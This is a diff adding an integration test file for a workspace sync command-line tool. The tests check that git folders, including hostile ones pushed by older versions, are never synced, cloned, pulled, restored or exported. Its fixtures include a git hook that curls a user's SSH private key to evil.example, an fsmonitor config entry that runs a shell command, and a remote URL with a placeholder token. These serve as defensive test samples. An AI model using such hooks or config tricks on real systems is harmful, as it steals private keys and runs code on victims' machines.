@@ -1,0 +1,152 @@
+/**
+ * What a real workspace folder holds besides the files to sync: git's folder (Insomnia git-sync
+ * users keep the workspace in a repository), a stray entry named `.insomnia-sync`, a file this user
+ * may not read, a path too long for the file system. Real server and CLI processes, as two
+ * machines of one account. A snapshot holding `.git/…` is made as a version before `.git` was a
+ * built-in rule made it (test/helpers/git-unaware.cjs).
+ */
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { folderPairs, linkedFolder, ROOT, tempDir, twoMachines, type Machine } from '../helpers/cli.js';
+import { startServer, type StartedServer } from '../helpers/server-process.js';
+
+const json = <T = any>(text: string): T => JSON.parse(text) as T;
+/** runs the CLI as a version that synced `.git` like any folder */
+const GIT_UNAWARE = { NODE_OPTIONS: `--require ${path.join(ROOT, 'test/helpers/git-unaware.cjs')}` };
+/** how the CLI runs for the tests of unreadable files: with no right to read past a file's mode */
+const user = { withoutReadOverride: true };
+
+/** Every path under `dir` (files, and folders with their '/'), `.insomnia-sync/` left out. */
+function tree(dir: string, rel = ''): string[] {
+  const out: string[] = [];
+  for (const e of readdirSync(path.join(dir, rel), { withFileTypes: true })) {
+    const p = rel ? `${rel}/${e.name}` : e.name;
+    if (p === '.insomnia-sync') continue;
+    if (e.isDirectory()) out.push(`${p}/`, ...tree(dir, p));
+    else out.push(p);
+  }
+  return out.sort();
+}
+
+/** A folder that is a git repository with a hook and remote credentials, as `git init` leaves one. */
+const GIT_FILES = {
+  '.git/config': '[remote "origin"]\n\turl = https://ci:glpat-SECRET@git.example.com/team/api.git\n',
+  '.git/hooks/post-checkout': '#!/bin/sh\ncurl https://evil.example/$(cat ~/.ssh/id_ed25519)\n',
+  '.git/HEAD': 'ref: refs/heads/main\n',
+};
+
+describe('what a workspace folder holds besides its files', () => {
+  let server: StartedServer;
+  let a: Machine;
+  let b: Machine;
+  let pair: ReturnType<typeof folderPairs>;
+  let n = 0;
+
+  beforeAll(async () => {
+    server = await startServer();
+    ({ a, b } = await twoMachines(server.url, 'folder-contents@example.com'));
+    pair = folderPairs(a, b, 'contents');
+  }, 60_000);
+  afterAll(async () => {
+    await server?.stop();
+  });
+
+  async function ok(m: Machine, args: string[], cwd: string, env?: Record<string, string>): Promise<{ stdout: string; stderr: string }> {
+    const res = await m.run(args, { cwd, ...(env ? { env } : {}) });
+    expect(res.code, `${args.join(' ')}: ${res.stderr}`).toBe(0);
+    return res;
+  }
+
+  describe('git\'s folder', () => {
+    it('.git (a folder at the root, a .git file in a subfolder) is never pushed, and status lists nothing for it', async () => {
+      const name = `git-${++n}`;
+      const { dir } = await linkedFolder(a, name, { 'api.json': '{}', ...GIT_FILES, 'sub/.git': 'gitdir: ../.git/worktrees/sub\n', 'sub/x.json': 'x' }, { push: false });
+      chmodSync(path.join(dir, '.git/hooks/post-checkout'), 0o755);
+      const status = json((await ok(a, ['status', '--json'], dir)).stdout);
+      expect(status.changes.map((c: { path: string }) => c.path)).toEqual(['api.json', 'sub/x.json']);
+      expect(status.skipped).toEqual([]);
+      expect((await ok(a, ['status'], dir)).stdout).not.toContain('.git');
+      const pushed = json((await ok(a, ['push', '--json'], dir)).stdout);
+      expect(pushed.changes.map((c: { path: string }) => c.path)).toEqual(['api.json', 'sub/x.json']);
+      // the remote has none of it: a clone, even by a version that would write it, gets none
+      const bDir = path.join(tempDir('isync-contents-b-'), 'ws');
+      await ok(b, ['clone', name, bDir], ROOT, GIT_UNAWARE);
+      expect(tree(bDir)).toEqual(['api.json', 'sub/', 'sub/x.json']);
+      // nothing changed: the no-op push finds nothing to do
+      expect(json((await ok(a, ['push', '--json'], dir)).stdout).changes).toEqual([]);
+    });
+
+    it('a snapshot holding .git/… (pushed by an older version) is not written by clone, pull, restore or export; the next push drops it', async () => {
+      const name = `git-${++n}`;
+      // an older version pushes git's folder with the rest
+      const dir = tempDir('isync-contents-old-');
+      for (const [rel, text] of Object.entries({ 'api.json': 'v1', ...GIT_FILES, 'sub/.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n' })) {
+        mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+        writeFileSync(path.join(dir, rel), text);
+      }
+      await ok(a, ['init', '--name', name], dir, GIT_UNAWARE);
+      const old = json((await ok(a, ['push', '--json'], dir, GIT_UNAWARE)).stdout);
+      expect(old.changes.map((c: { path: string }) => c.path)).toContain('.git/hooks/post-checkout');
+      // it really is in the snapshot: a version that writes it gets it
+      const oldClone = path.join(tempDir('isync-contents-oldclone-'), 'ws');
+      await ok(b, ['clone', name, oldClone], ROOT, GIT_UNAWARE);
+      expect(readFileSync(path.join(oldClone, '.git/config'), 'utf8')).toContain('glpat-SECRET');
+
+      // clone: not written, and said
+      const bDir = path.join(tempDir('isync-contents-b-'), 'ws');
+      const cloned = await ok(b, ['clone', name, bDir], ROOT);
+      expect(tree(bDir)).toEqual(['api.json']);
+      expect(cloned.stderr).toContain("warning: left out 4 file(s) of the snapshot inside git's folder (.git/, sub/.git/)");
+      const clonedJson = await b.run(['clone', name, path.join(tempDir('isync-contents-b-'), 'ws'), '--json'], { cwd: ROOT });
+      expect(json(clonedJson.stdout).leftOut).toEqual(['.git/HEAD', '.git/config', '.git/hooks/post-checkout', 'sub/.git/config']);
+
+      // pull: B keeps a repository of its own; the old version's next push changes its .git too
+      mkdirSync(path.join(bDir, '.git'));
+      writeFileSync(path.join(bDir, '.git/config'), "B's own\n");
+      writeFileSync(path.join(dir, 'api.json'), 'v2');
+      writeFileSync(path.join(dir, '.git/config'), 'changed by A\n');
+      await ok(a, ['push'], dir, GIT_UNAWARE);
+      const pulled = await ok(b, ['pull', '--json'], bDir);
+      expect(json(pulled.stdout)).toMatchObject({ written: ['api.json'], deleted: [], leftOut: expect.arrayContaining(['.git/config']) });
+      expect(readFileSync(path.join(bDir, 'api.json'), 'utf8')).toBe('v2');
+      expect(readFileSync(path.join(bDir, '.git/config'), 'utf8')).toBe("B's own\n");
+      expect(tree(bDir)).toEqual(['.git/', '.git/config', 'api.json']);
+      expect(json((await ok(b, ['status', '--json'], bDir)).stdout)).toMatchObject({ changes: [], skipped: [] });
+
+      // restore --to and export --out: not written either
+      const restored = path.join(tempDir('isync-contents-restore-'), 'r');
+      const head = json((await ok(b, ['log', '--json'], bDir)).stdout).snapshots[0].id as string;
+      const restoreRes = await ok(b, ['restore', head.slice(0, 12), '--to', restored], bDir);
+      expect(tree(restored)).toEqual(['api.json']);
+      expect(restoreRes.stderr).toContain('warning: left out');
+      const exported = path.join(tempDir('isync-contents-export-'), 'e');
+      await ok(b, ['export', '--out', exported], bDir);
+      expect(tree(exported)).toEqual(['api.json']);
+
+      // the current version's next push from A's folder drops them from the workspace
+      const dropped = json((await ok(a, ['push', '--json', '-m', 'no .git'], dir)).stdout);
+      expect(dropped.changes).toEqual(expect.arrayContaining([{ kind: 'deleted', path: '.git/config' }, { kind: 'deleted', path: 'sub/.git/config' }]));
+      expect(readFileSync(path.join(dir, '.git/config'), 'utf8')).toBe('changed by A\n'); // A's own stays
+      const fresh = await ok(b, ['clone', name, path.join(tempDir('isync-contents-b-'), 'ws'), '--json'], ROOT);
+      expect(json(fresh.stdout).leftOut).toEqual([]);
+      const oldAgain = path.join(tempDir('isync-contents-oldclone-'), 'ws');
+      await ok(b, ['clone', name, oldAgain], ROOT, GIT_UNAWARE);
+      expect(tree(oldAgain)).toEqual(['api.json']);
+    }, 90_000);
+
+    it('a hostile .GIT/hooks (another case, as macOS would open it) is not written either', async () => {
+      const name = `git-${++n}`;
+      const dir = tempDir('isync-contents-old-');
+      mkdirSync(path.join(dir, '.GIT/hooks'), { recursive: true });
+      writeFileSync(path.join(dir, '.GIT/hooks/post-checkout'), '#!/bin/sh\n');
+      writeFileSync(path.join(dir, 'api.json'), '{}');
+      await ok(a, ['init', '--name', name], dir, GIT_UNAWARE);
+      await ok(a, ['push'], dir, GIT_UNAWARE);
+      const bDir = path.join(tempDir('isync-contents-b-'), 'ws');
+      await ok(b, ['clone', name, bDir], ROOT);
+      expect(tree(bDir)).toEqual(['api.json']);
+    });
+  });
+
+});
